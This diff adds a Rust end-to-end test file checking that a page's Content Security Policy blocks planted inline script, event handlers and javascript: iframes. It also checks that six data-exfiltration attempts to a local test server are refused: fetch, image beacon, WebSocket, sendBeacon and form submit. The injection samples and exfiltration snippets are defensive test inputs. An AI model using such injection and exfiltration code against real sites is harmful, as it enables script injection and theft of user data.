@@ -1,0 +1,86 @@
+//! The page's own policy: nothing foreign runs in it, nothing leaves it.
+
+use std::path::Path;
+
+use e2e::{Page, Server, journeys};
+
+use crate::cases::{MUNA_BARAT, MUNA_BARAT_LINK};
+
+journeys!(
+    a_planted_script_does_not_run,
+    no_way_out_of_the_page_is_open
+);
+
+const PLANTED: &str = "<script>window.planted = 'script'</script>
+    <p onclick=\"window.planted = 'handler'\" id=\"foreign\">planted</p>
+    <iframe src=\"javascript:parent.planted = 'address'\"></iframe>";
+
+fn a_planted_script_does_not_run(page: &Page) {
+    page.plant(PLANTED);
+    page.open_link(MUNA_BARAT_LINK);
+    page.eval("document.getElementById('foreign').click();");
+    assert_eq!(
+        page.eval("return window.planted ?? 'nothing ran';"),
+        "nothing ran"
+    );
+    page.expect_values(MUNA_BARAT.results);
+
+    let refused = page.console_errors();
+    assert!(
+        refused.iter().any(|error| error.contains("inline script")),
+        "{refused:#?}"
+    );
+    assert!(
+        refused
+            .iter()
+            .all(|error| error.contains("Content Security Policy")),
+        "{refused:#?}"
+    );
+}
+
+fn no_way_out_of_the_page_is_open(page: &Page) {
+    let elsewhere = Server::start(Path::new("no file at all"));
+    page.open_link(MUNA_BARAT_LINK);
+    for attempt in WAYS_OUT {
+        let script = attempt.replace("ELSEWHERE", &elsewhere.address("/"));
+        assert_eq!(page.eval_async(&script), "refused", "{attempt}");
+    }
+    assert_eq!(elsewhere.requests(), 0);
+    page.expect_values(MUNA_BARAT.results);
+
+    let refused = page.console_errors();
+    assert!(
+        refused
+            .iter()
+            .all(|error| error.contains("Content Security Policy")),
+        "{refused:#?}"
+    );
+}
+
+/// Of a beacon or a sent form only the policy itself tells the fate.
+const WAYS_OUT: [&str; 6] = [
+    "return await fetch('ELSEWHERE').then(() => 'sent', () => 'refused');",
+    "const post = { method: 'POST', mode: 'no-cors', body: 'x' };
+     return await fetch('ELSEWHERE', post).then(() => 'sent', () => 'refused');",
+    "const image = new Image();
+     image.src = 'ELSEWHERE';
+     return await new Promise(end => {
+         image.onload = () => end('sent');
+         image.onerror = () => end('refused');
+     });",
+    "const socket = new WebSocket('ELSEWHERE'.replace('http', 'ws'));
+     return await new Promise(end => {
+         socket.onopen = () => end('sent');
+         socket.onerror = () => end('refused');
+     });",
+    "return await new Promise(end => {
+         document.addEventListener('securitypolicyviolation', () => end('refused'), { once: true });
+         navigator.sendBeacon('ELSEWHERE', 'x');
+     });",
+    "return await new Promise(end => {
+         document.addEventListener('securitypolicyviolation', () => end('refused'), { once: true });
+         const form = document.body.appendChild(document.createElement('form'));
+         form.action = 'ELSEWHERE';
+         form.submit();
+     });",
+];
